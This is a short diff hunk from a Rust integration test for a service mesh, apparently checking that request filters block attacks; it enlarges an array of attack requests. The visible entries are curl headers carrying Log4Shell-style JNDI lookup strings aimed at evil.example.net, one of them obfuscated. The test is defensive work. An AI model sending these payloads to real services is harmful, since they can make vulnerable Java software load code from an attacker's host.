@@ -84,7 +84,7 @@ async fn limits_faults_and_filters_act_where_the_request_arrives() -> Result<()>
     mesh.meridian(&["delete", "meshfaultinjection", "broken"]).await?;
     ends(&web, url, "200").await?;
 
-    let attacks: [&[&str]; 4] = [
+    let attacks: [&[&str]; 5] = [
         &["-H", "x-api-version: ${jndi:ldap://evil.example.net/a}", url],
         &["-H", "user-agent: ${${lower:j}${::-n}di:rmi://evil.example.net/a}", url],
         &[
